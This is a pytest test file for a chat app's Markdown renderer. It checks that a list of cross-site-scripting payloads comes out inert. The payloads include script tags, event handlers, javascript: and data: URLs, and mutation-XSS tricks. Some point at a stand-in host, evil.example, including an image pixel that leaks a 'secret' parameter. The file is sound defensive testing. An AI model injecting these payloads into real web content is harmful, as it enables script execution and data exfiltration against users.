"""Hostile Markdown/HTML from a document or an LLM must come out inert."""

import pytest

from chat.markdown import link_citations, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<div onclick=alert(1) onmouseover=alert(2)>x</div>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=https://evil.example><input name=q></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "![x](https://evil.example/pixel.png?secret=1)",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_input_renders_inert(source):
    html = render_markdown(source).lower()
    for needle in ("<script", "<iframe", "<style", "<svg", "<img", "<object", "<embed", "<form", "<input",
                   "<meta", "<base", "javascript:", "vbscript:", "data:", " onerror", " onload", " onclick",
                   " onmouseover", "style=", "evil.example/pixel"):
        assert needle not in html, (source, html)


def test_markdown_renders_structure():
    html = render_markdown("# Title\n\nSome **bold** and `code`.\n\n- a\n- b\n\n```\n<b>x</b>\n```")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<li>a</li>" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html  # code blocks show markup as text


def test_links_get_noopener_and_keep_safe_urls():
    html = render_markdown("[site](https://example.com/a) [mail](mailto:a@example.com) [rel](/docs/x)")
    assert '<a href="https://example.com/a" rel="noopener noreferrer">site</a>' in html
    assert 'href="mailto:a@example.com"' in html
    assert 'href="/docs/x"' in html


def test_link_citations_links_known_numbers_outside_code_only():
    html = "<p>Use it [1] and [2, 3]; not [7].</p><pre><code>x[1]</code></pre>"
    out = link_citations(html, {1: "/p/1", 2: "/p/2", 3: "/p/3"})
    assert '<a class="cite" href="/p/1" data-n="1">[1]</a>' in out
    assert 'href="/p/2" data-n="2">[2]</a><a class="cite" href="/p/3"' in out
    assert "not [7]." in out
    assert "<code>x[1]</code>" in out


def test_angle_bracketed_text_is_shown_as_written():
    from bs4 import BeautifulSoup

    from tests.fidelity import FILES

    paragraph = next(p for p in (FILES / "notes.md").read_text().split("\n\n") if p.startswith("A shelf mark"))
    html = str(render_markdown(paragraph))
    assert "&lt;implementations-keywords&gt;" in html
    shown = " ".join(BeautifulSoup(html, "html.parser").get_text().split())
    assert "written as <implementations-keywords> after" in shown
    kept = str(render_markdown("a <b>bold</b> word, <script>alert(1)</script> per <book-title> entry"))
    assert "<b>bold</b>" in kept and "<script" not in kept and "&lt;book-title&gt;" in kept
